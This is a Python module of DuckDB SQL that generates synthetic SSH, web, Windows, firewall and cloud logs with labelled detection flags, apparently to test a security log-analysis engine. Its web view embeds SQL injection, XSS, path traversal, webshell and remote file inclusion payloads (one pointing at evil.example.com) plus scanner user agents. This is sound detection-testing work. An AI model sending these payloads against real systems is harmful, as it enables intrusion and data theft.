"""SQL side of the registered queries: the log views as typed tables, in DuckDB's dialect.

Flags come from the columns a line was written from, not from its text, so a wrong pattern
in the engine shows up as a difference.
"""

AUTH = r"""
base AS (
 SELECT *, CAST(json_extract_string(props, '$.k') AS INT) AS k, user_id // 4 AS g FROM events
), typed AS (
 SELECT *, k % 20 <> 19 AS matched, 'auth-' || strftime(ts, '%Y%m%d') || '.log' AS scope, event_id * 2 AS seq,
  '10.' || (g // 62500 % 250) || '.' || (g // 250 % 250) || '.' || (g % 250) AS ip,
  1000 + event_id % 30000 AS pid0, 20000 + event_id % 40000 AS port0
 FROM base
), said AS (
 SELECT *, CASE WHEN NOT matched THEN NULL
   WHEN event_type = 'error' AND k % 10 = 0 THEN 'Failed password for root from ' || ip || ' port ' || port0 || ' ssh2'
   WHEN event_type = 'error' AND k % 10 IN (1, 2, 3) THEN 'Failed password for invalid user g' || k || ' from ' || ip || ' port ' || port0 || ' ssh2'
   WHEN event_type = 'error' AND k % 10 = 4 THEN 'Failed publickey for u' || user_id || ' from ' || ip || ' port ' || port0 || ' ssh2'
   WHEN event_type = 'error' THEN 'Failed password for u' || user_id || ' from ' || ip || ' port ' || port0 || ' ssh2'
   WHEN event_type = 'signup' THEN 'Invalid user g' || k || ' from ' || ip || ' port ' || port0
   WHEN event_type = 'click' AND user_id % 4 = 0 AND k % 2 = 0 THEN 'Accepted password for u' || user_id || ' from ' || ip || ' port ' || port0 || ' ssh2'
   WHEN event_type = 'click' AND user_id % 4 = 0 THEN 'Accepted publickey for u' || user_id || ' from ' || ip || ' port ' || port0 || ' ssh2'
   WHEN event_type = 'click' THEN 'Disconnected from ' || ip || ' port ' || port0
   WHEN event_type = 'view' AND k % 2 = 0 THEN 'pam_unix(sshd:session): session opened for user u' || user_id || ' by (uid=0)'
   WHEN event_type = 'view' THEN 'pam_unix(sshd:session): session closed for user u' || user_id
   ELSE 'u' || user_id || ' : TTY=pts/0 ; PWD=/home ; COMMAND=/bin/ls ' || k END AS said
 FROM typed
), auth AS (
 SELECT event_id, ts, scope, seq, matched,
  strftime(ts, '%b') || ' ' || lpad(CAST(day(ts) AS VARCHAR), 2, ' ') || ' ' || strftime(ts, '%H:%M:%S') || ' web01 ' ||
   CASE WHEN NOT matched THEN '-- MARK -- ' || k WHEN event_type = 'purchase' THEN 'sudo: ' || said ELSE 'sshd[' || pid0 || ']: ' || said END AS raw,
  CASE WHEN matched THEN strftime(ts, '%b') END AS mon, CASE WHEN matched THEN CAST(day(ts) AS VARCHAR) END AS dom,
  CASE WHEN matched THEN strftime(ts, '%H:%M:%S') END AS clock, CASE WHEN matched THEN 'web01' END AS host,
  CASE WHEN NOT matched THEN '' WHEN event_type = 'purchase' THEN 'sudo' ELSE 'sshd' END AS process,
  CASE WHEN matched AND event_type <> 'purchase' THEN CAST(pid0 AS VARCHAR) END AS pid, said,
  CASE WHEN matched AND event_type IN ('error', 'signup', 'click') THEN ip END AS src_ip,
  CASE WHEN matched AND event_type IN ('error', 'signup', 'click') THEN CAST(port0 AS VARCHAR) END AS port,
  CASE WHEN NOT matched THEN NULL WHEN event_type = 'error' AND k % 10 = 0 THEN 'root'
   WHEN event_type = 'error' AND k % 10 IN (1, 2, 3) THEN 'invalid' WHEN event_type = 'error' THEN 'u' || user_id
   WHEN event_type = 'signup' THEN 'g' || k WHEN event_type = 'click' AND user_id % 4 = 0 THEN 'u' || user_id
   WHEN event_type = 'view' THEN 'user' END AS username,
  CASE WHEN matched AND event_type = 'signup' THEN 'g' || k WHEN matched AND event_type = 'error' AND k % 10 IN (1, 2, 3) THEN 'g' || k END AS invalid_user,
  matched AND event_type = 'error' AS is_failed_auth,
  matched AND event_type = 'click' AND user_id % 4 = 0 AS is_accepted_auth,
  matched AND (event_type = 'signup' OR event_type = 'error' AND k % 10 IN (1, 2, 3)) AS is_invalid_user,
  matched AND event_type = 'purchase' AS is_sudo,
  matched AND event_type = 'error' AND k % 10 = 0 AS is_root_login,
  matched AND event_type = 'click' AND user_id % 4 <> 0 AS is_disconnected,
  matched AND event_type = 'view' AND k % 2 = 0 AS is_session_opened,
  matched AND event_type = 'view' AND k % 2 = 1 AS is_session_closed
 FROM said
)"""

WEB = r"""
base AS (
 SELECT e.*, CAST(json_extract_string(props, '$.k') AS INT) AS k, user_id // 8 AS g, regexp_replace(url, '^https?://[^/]+', '') AS page
 FROM events e JOIN pages p ON p.page_id = e.event_id % 50
), typed AS (
 SELECT *, k % 25 AS p, 'web-' || strftime(ts, '%Y%m%d') || '.log' AS scope, event_id AS seq,
  '10.' || (g // 62500 % 250) || '.' || (g // 250 % 250) || '.' || (g % 250) AS ip,
  CASE WHEN user_id % 5 = 0 THEN 'u' || user_id ELSE '-' END AS who,
  CASE WHEN k % 11 = 0 THEN 'Nikto/2.5.0' WHEN k % 11 = 1 THEN 'sqlmap/1.6.12#stable' WHEN k % 11 = 2 THEN 'acunetix'
   WHEN k % 11 = 3 THEN 'curl/7.68.0' ELSE 'Mozilla/5.0 (Macintosh)' END AS agent,
  CASE event_type WHEN 'error' THEN CASE WHEN k % 3 = 0 THEN 403 ELSE 404 END WHEN 'purchase' THEN 500 ELSE 200 END AS code
 FROM base
), aimed AS (
 SELECT *,
  CASE p WHEN 0 THEN page || '?id=' || k || '%27%20OR%20%271%27=%271' WHEN 1 THEN page || '?id=' || k || '%20UNION%20SELECT%20name+FROM%20users'
   WHEN 2 THEN page || '?q=%3Cscript%3Ealert(' || k || ')%3C/script%3E' WHEN 3 THEN '/' || k || '/../../etc/passwd'
   WHEN 4 THEN '/' || k || '/%252e%252e%252fetc' WHEN 5 THEN '/up/' || k || '/cmd.php?c=id' WHEN 6 THEN '/wp-admin/' || k || '/config.bak'
   WHEN 7 THEN page || '?page=http://evil.example.com/' || k || '.txt.php' WHEN 8 THEN page || '?q=or+1=1' WHEN 9 THEN page || '?q=50%zz+off%' WHEN 10 THEN page || '?next=javascript:go(' || k || ')' ELSE page END AS target,
  CASE p WHEN 0 THEN page || '?id=' || k || ''' OR ''1''=''1' WHEN 1 THEN page || '?id=' || k || ' UNION SELECT name+FROM users'
   WHEN 2 THEN page || '?q=<script>alert(' || k || ')</script>' WHEN 3 THEN '/' || k || '/../../etc/passwd'
   WHEN 4 THEN '/' || k || '/%2e%2e%2fetc' WHEN 5 THEN '/up/' || k || '/cmd.php?c=id' WHEN 6 THEN '/wp-admin/' || k || '/config.bak'
   WHEN 7 THEN page || '?page=http://evil.example.com/' || k || '.txt.php' WHEN 8 THEN page || '?q=or+1=1' WHEN 9 THEN page || '?q=50%zz+off%' WHEN 10 THEN page || '?next=javascript:go(' || k || ')' ELSE page END AS decoded
 FROM typed
), web AS (
 SELECT event_id, ts, scope, seq, k <> 77 AS matched,
  CASE WHEN k = 77 THEN 'broken line ' || event_id ELSE ip || ' - ' || who || ' [' || strftime(ts, '%d/%b/%Y:%H:%M:%S') || ' +0000] "GET ' || target || ' HTTP/1.1" ' || code || ' ' || (event_id % 5000) ||
   CASE WHEN k = 78 THEN '' ELSE ' "-" "' || agent || '"' END END AS raw,
  CASE WHEN k <> 77 THEN ip END AS src_ip, CASE WHEN k <> 77 THEN who END AS username, CASE WHEN k <> 77 THEN strftime(ts, '%d/%b/%Y:%H:%M:%S') || ' +0000' END AS stamp,
  CASE WHEN k <> 77 THEN target END AS target, CASE WHEN k <> 77 THEN decoded END AS path, CASE WHEN k <> 77 THEN code END AS code,
  CASE WHEN k <> 77 THEN CAST(event_id % 5000 AS VARCHAR) END AS size,
  CASE WHEN k = 77 THEN NULL WHEN k = 78 THEN '' ELSE '-' END AS referer, CASE WHEN k = 77 THEN NULL WHEN k = 78 THEN '' ELSE agent END AS agent,
  CASE WHEN k <> 77 AND contains(target, '?') THEN target[strpos(target, '?') + 1:] END AS uri_query,
  CASE WHEN k <> 77 THEN split_part(target, '?', 1) END AS uri_path,
  k <> 77 AND p IN (0, 1, 8) AS is_sqli, k <> 77 AND p IN (2, 10) AS is_xss, k <> 77 AND p IN (3, 4) AS is_path_traversal,
  k <> 77 AND p = 7 AS is_rfi, k <> 77 AND p = 5 AS is_webshell, k NOT IN (77, 78) AND k % 11 IN (0, 1, 2) AS is_scanner,
  k <> 77 AND event_type = 'error' AS is_4xx, k <> 77 AND event_type = 'purchase' AS is_5xx,
  k <> 77 AND p = 6 AS is_admin_access, k <> 77 AND p = 6 AS is_backup_file
 FROM aimed
)"""

_ORDERS = r"""
numbered AS (
 SELECT *, [4625, 4624, 4648, 4672, 4697, 4698, 4720, 4724, 4728, 4732, 4756, 4776, 4768, 4769, 4771, 1102, 4946, 7045][o_orderkey % 18 + 1] AS eid,
  o_custkey // 5 AS g, o_orderkey * 37 % 86400 AS s,
  '10.2.' || ((o_custkey // 2) // 250 % 250) || '.' || ((o_custkey // 2) % 250) AS ip, 'c' || o_custkey AS who
 FROM orders
), stamped AS (
 SELECT *, strftime(o_orderdate + to_seconds(s), '%m/%d/%Y %I:%M:%S %p') AS stamp, o_orderdate + to_seconds(s) AS happened FROM numbered
)"""

_EVENT_FLAGS = """
  coalesce(event_id = 4625, false) AS is_failed_logon, coalesce(event_id = 4672, false) AS is_privileged_logon,
  coalesce(event_id IN (4697, 7045), false) AS is_service_install, coalesce(event_id = 4698, false) AS is_scheduled_task,
  coalesce(event_id = 4720, false) AS is_account_created, coalesce(event_id IN (4728, 4732, 4756), false) AS is_group_modified,
  coalesce(event_id = 1102, false) AS is_log_cleared, coalesce(event_id = 4769, false) AS is_kerberoast,
  CASE event_id WHEN 4625 THEN 'failed_logon' WHEN 4648 THEN 'explicit_credentials_logon' WHEN 4672 THEN 'privileged_logon'
   WHEN 4697 THEN 'service_install' WHEN 4698 THEN 'scheduled_task_created' WHEN 4720 THEN 'user_account_created'
   WHEN 4724 THEN 'password_reset_attempt' WHEN 4728 THEN 'member_added_to_security_group' WHEN 4732 THEN 'member_added_to_local_group'
   WHEN 4756 THEN 'member_added_to_universal_group' WHEN 4776 THEN 'credential_validation' WHEN 4768 THEN 'kerberos_tgt_request'
   WHEN 4769 THEN 'kerberos_service_ticket' WHEN 4771 THEN 'kerberos_preauth_failed' WHEN 1102 THEN 'audit_log_cleared'
   WHEN 4946 THEN 'firewall_rule_added' WHEN 7045 THEN 'new_service_installed' ELSE 'generic' END AS event_type
"""

WIN = _ORDERS + r""", lined AS (
 SELECT 'win-' || g || '.log' AS scope, o_orderkey AS seq, eid AS event_id, o_orderkey % 13 = 0 AS loose, happened, who, ip,
  CASE WHEN o_orderkey % 13 = 0 THEN 'forwarded eventid: ' || eid || ' for ' || who
   ELSE stamp || ' Microsoft-Windows-Security-Auditing ' || eid || ' Category ' || (eid % 7) || ' ' || chr(9) || ' event for ' || who || ' account name ' || who || ' from ' || ip END AS raw,
  CASE WHEN o_orderkey % 13 = 0 THEN NULL ELSE stamp[1:10] END AS day, CASE WHEN o_orderkey % 13 = 0 THEN NULL ELSE stamp[12:] END AS clock,
  CASE WHEN o_orderkey % 13 = 0 THEN NULL ELSE 'Category ' || (eid % 7) END AS category,
  CASE WHEN o_orderkey % 13 = 0 THEN 'forwarded eventid: ' || eid || ' for ' || who ELSE 'event for ' || who || ' account name ' || who || ' from ' || ip END AS message
 FROM stamped WHERE o_orderkey % 29 <> 0
), win AS (
 SELECT *, CAST(NULL AS VARCHAR) AS src_ip, false AS is_pass_the_hash, """ + _EVENT_FLAGS + " FROM lined)"

BLOCKS = _ORDERS + r""", lined AS (
 SELECT 'winblocks-' || g || '.log' AS scope, o_orderkey AS seq, CASE WHEN o_orderkey % 31 <> 0 THEN eid END AS event_id, happened, stamp, who AS username,
  CASE WHEN o_orderkey % 4 <> 0 THEN ip END AS src_ip, CASE WHEN o_orderkey % 5 = 0 THEN '2' ELSE '3' END AS logon_type,
  'WS' || (o_custkey % 90) AS workstation, 'C:\Program Files\app' || (o_orderkey % 9) || '.exe' AS process_name, 'svc' || (o_orderkey % 6) AS service,
  'Date: ' || stamp || CASE WHEN o_orderkey % 31 = 0 THEN '' ELSE chr(10) || 'EventID: ' || eid END || chr(10) || 'Account Name: ' || who ||
  CASE WHEN o_orderkey % 4 = 0 THEN '' ELSE chr(10) || 'Source Network Address: ' || ip END ||
  chr(10) || 'Logon Type: ' || CASE WHEN o_orderkey % 5 = 0 THEN 2 ELSE 3 END || chr(10) || 'Workstation Name: WS' || (o_custkey % 90) ||
  chr(10) || 'Process Name: C:\Program Files\app' || (o_orderkey % 9) || '.exe' || chr(10) || 'Service Name: svc' || (o_orderkey % 6) || chr(10) || 'Detail: ' || repeat('x', o_orderkey % 100) AS raw
 FROM stamped
), blocks AS (
 SELECT *, coalesce(event_id = 4624, false) AND logon_type = '3' AS is_pass_the_hash, """ + _EVENT_FLAGS + " FROM lined)"

CSV = r"""
typed AS (
 SELECT *, 'fw-' || (l_suppkey // 10) || '.csv' AS scope, (l_orderkey * 8 + l_linenumber) * 1000000 + (l_partkey * 1009 + l_suppkey) % 1000000 AS seq,
  '10.3.' || (l_suppkey // 250 % 250) || '.' || (l_suppkey % 250) AS src_ip, '10.9.0.' || (l_orderkey % 50) AS dst_ip, CAST(1 + l_partkey % 1024 AS VARCHAR) AS dst_port,
  CASE WHEN l_returnflag = 'R' AND l_partkey % 17 = 0 THEN 'deny' WHEN l_partkey % 13 = 0 THEN 'login failed' WHEN l_partkey % 13 = 1 THEN 'Login OK'
   WHEN l_partkey % 211 = 3 THEN 'Create User' WHEN l_partkey % 211 = 4 THEN 'DeleteTrail' ELSE 'pass' END AS action,
  CASE WHEN l_partkey % 29 = 0 THEN 'HTTP 503' WHEN l_partkey % 29 = 1 THEN '404' WHEN l_partkey % 29 = 2 THEN 'none' ELSE '200' END AS code_text,
  CASE WHEN l_partkey % 29 = 0 THEN 503 WHEN l_partkey % 29 = 1 THEN 404 WHEN l_partkey % 29 = 2 THEN NULL ELSE 200 END AS status_code,
  CASE WHEN l_orderkey % 50 = 0 THEN 'root' WHEN l_orderkey % 50 = 1 THEN 'Site Admin' ELSE 'c' || (l_orderkey % 997) END AS username,
  strftime(l_shipdate, '%Y-%m-%dT%H:%M:%SZ') AS stamp, l_shipdate AS happened
 FROM lineitem
), csv AS (
 SELECT *, stamp || ',' || src_ip || ',' || dst_ip || ',' || dst_port || ',tcp,' || action || ',' || code_text || ',' || username ||
   CASE WHEN l_linenumber = 1 THEN ',"a, quoted ""note""' || chr(34) WHEN l_linenumber = 2 THEN '' WHEN l_linenumber = 3 THEN ',n3,cut off' ELSE ',n' || l_linenumber END AS raw,
  CASE WHEN l_linenumber = 1 THEN 'a, quoted "note"' WHEN l_linenumber = 2 THEN '' ELSE 'n' || l_linenumber END AS note,
  CAST(NULL AS INT) AS event_id, CAST(NULL AS VARCHAR) AS message, CAST(NULL AS VARCHAR) AS host,
  action = 'deny' AS is_denied, action = 'login failed' AS is_failed_auth, action = 'Login OK' AS is_success_auth, action IN ('login failed', 'Login OK') AS is_auth_context,
  action IN ('Create User', 'DeleteTrail') AS is_sensitive_action, l_orderkey % 50 IN (0, 1) AS is_admin_user, coalesce(status_code >= 400, false) AS is_error_status,
  false AS is_failed_logon, false AS is_log_cleared, false AS is_kerberoast, false AS is_service_install, false AS is_group_modified
 FROM typed
)"""

_CLOUD = r"""
base AS (
 SELECT *, CAST(json_extract_string(props, '$.k') AS INT) AS k, user_id // 4 AS g FROM events
), typed AS (
 SELECT *, '10.4.' || (g // 250 % 250) || '.' || (g % 250) AS src_ip, strftime(ts, '%Y-%m-%dT%H:%M:%SZ') AS stamp,
  CASE event_type WHEN 'error' THEN 'ConsoleLogin' WHEN 'signup' THEN 'CreateUser' WHEN 'purchase' THEN 'PutBucketPolicy' WHEN 'click' THEN 'ListBuckets' ELSE 'GetObject' END AS action,
  CASE WHEN user_id % 9 = 0 THEN 'root' ELSE 'u' || user_id END AS caller,
  CASE WHEN event_type = 'signup' THEN 'new' || k WHEN user_id % 9 = 0 THEN 'root' ELSE 'u' || user_id END AS username,
  CASE WHEN event_type = 'error' THEN 'Failed authentication' END AS message, CASE WHEN k % 4 = 0 THEN 500 ELSE 200 END AS status_code,
  event_id % 3 * 1000 + 4625 AS eid
 FROM base
), told AS (
 SELECT *, '{"eventTime": "' || stamp || '", "eventName": "' || action || '", "sourceIPAddress": "' || src_ip || '", "userIdentity": {"type": "IAMUser", "userName": "' || caller ||
  '", "ids": [1, {"accountName": "acc' || (user_id % 5) || '"}]}' || CASE WHEN event_type = 'error' THEN ', "errorMessage": "Failed authentication"' ELSE '' END ||
  CASE WHEN event_type = 'signup' THEN ', "requestParameters": {"userName": "new' || k || '", "empty": {}}' ELSE '' END ||
  ', "responseElements": {"status": null, "httpStatus": {"code": ' || CASE WHEN k % 4 = 0 THEN 500 ELSE 200 END || '}}, "eventID": "e-' || eid || '"}' AS record,
  false AS is_denied, event_type = 'error' AS is_failed_auth, false AS is_success_auth, event_type = 'error' AS is_auth_context,
  event_type IN ('error', 'signup', 'purchase') AS is_sensitive_action,
  CASE WHEN event_type = 'signup' THEN false ELSE user_id % 9 = 0 END AS is_admin_user, k % 4 = 0 AS is_error_status,
  eid = 4625 AS is_failed_logon, false AS is_privileged_logon, false AS is_log_cleared, false AS is_kerberoast, false AS is_service_install, false AS is_group_modified
 FROM typed
)"""
CLOUD = _CLOUD + r""", cloud AS (
 SELECT * EXCLUDE (event_id, event_type), event_id AS seq, eid AS event_id, 'cloud-' || strftime(ts, '%Y%m%d') || '.jsonl' AS scope, record AS raw, CAST(NULL AS VARCHAR) AS host, ts AS happened
 FROM told WHERE k NOT IN (91, 92)
)"""
DOCUMENTS = _CLOUD + r""", documents AS (
 SELECT * EXCLUDE (event_id, event_type, n), event_id + n AS seq, eid AS event_id, 'doc-' || event_id || '.json' AS scope
 FROM told, (SELECT unnest([0, 2]) AS n) WHERE n = 0 OR event_id % 4 = 1
)"""

WINEVENT = _ORDERS + r""", lined AS (
 SELECT 'winevent-' || g || '.xml' AS scope, o_orderkey AS seq, eid AS event_id, ip AS src_ip, 'WS' || (o_custkey % 90) AS host, CAST(NULL AS TIMESTAMP) AS happened,
  CASE WHEN o_orderkey % 3 = 0 THEN who ELSE 's' || o_custkey END AS username,
  CAST(NULL AS VARCHAR) AS action, CAST(NULL AS VARCHAR) AS message,
  '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Auditing"/><EventID>' || eid || '</EventID><TimeCreated SystemTime="' || strftime(o_orderdate, '%Y-%m-%d') ||
  'T00:00:00Z"/><Computer>WS' || (o_custkey % 90) || '</Computer></System><EventData><Data Name="SubjectUserName">' || CASE WHEN o_orderkey % 3 = 0 THEN '' ELSE 's' || o_custkey END ||
  '</Data><Data Name="TargetUserName"> ' || who || ' </Data><Data>unnamed</Data><Data Name="IpAddress">' || ip || '</Data></EventData></Event>' AS raw
 FROM stamped
), winevent AS (
 SELECT *, false AS is_failed_auth, false AS is_denied, false AS is_error_status, false AS is_sensitive_action, """ + _EVENT_FLAGS + " FROM lined)"

XML = r"""
xml AS (
 SELECT 'app-' || (c_custkey // 50) || '.xml' AS scope, c_custkey AS seq, 4000 + c_custkey % 1000 AS event_id,
  CASE WHEN c_custkey % 7 = 0 THEN 'admin' ELSE 'u' || c_custkey END AS username, '10.5.' || (c_custkey // 250 % 250) || '.' || (c_custkey % 250) AS src_ip,
  CASE WHEN c_custkey % 6 = 0 THEN 'login denied' ELSE 'read' END AS action, c_custkey % 6 = 0 AS is_denied, c_custkey % 7 = 0 AS is_admin_user
 FROM customer
)"""

VIEWS = {
    "auth": AUTH, "web": WEB, "win": WIN, "blocks": BLOCKS, "csv": CSV, "cloud": CLOUD,
    "documents": DOCUMENTS, "winevent": WINEVENT, "xml": XML,
}


def sql(view: str, body: str) -> str:
    """A statement over a view; a body that starts with a comma adds its own CTEs."""
    return f"WITH {VIEWS[view]}{body}" if body.startswith(",") else f"WITH {VIEWS[view]}\n{body}"


def _finding(view: str, name: str, severity: str, hits: str, sample: str, evidence: str, source: str) -> str:
    return sql(view, f"""SELECT scope, {name} AS rule_name, '{severity}' AS severity, CAST({hits} AS BIGINT) AS hit_count,
 {sample} AS sample_entry, {evidence} AS evidence {source}""")


def keyed(view: str, name: str, severity: str, flag: str, threshold: int, listed: str, largest: str | None,
          sample: str = "arg_min(first_raw, (-n, first))") -> str:
    """A rule that counts per address. ``listed`` and ``largest`` name the evidence."""
    most = f"""|| ',"{largest}":' || max(n)""" if largest else ""
    evidence = f"""'{{"{listed}":["' || array_to_string(list(src_ip ORDER BY first)[1:5], '","') || '"]' {most} || ',"threshold":{threshold}}}'"""
    per_key = f"""(SELECT scope, src_ip, count(*) AS n, min(seq) AS first, arg_min(raw, seq) AS first_raw FROM {view}
 WHERE {flag} AND src_ip IS NOT NULL GROUP BY scope, src_ip HAVING count(*) >= {threshold})"""
    return _finding(view, f"'{name}'", severity, "sum(n)", sample, evidence, f"FROM {per_key} GROUP BY scope")


def total(view: str, name: str, severity: str, flag: str, threshold: int = 1, evidence: str = "'{}'") -> str:
    """A rule that counts records of a scope."""
    return _finding(view, f"'{name}'", severity, "count(*)", "arg_min(raw, seq)", evidence,
                    f"FROM {view} WHERE {flag} GROUP BY scope HAVING count(*) >= {threshold}")
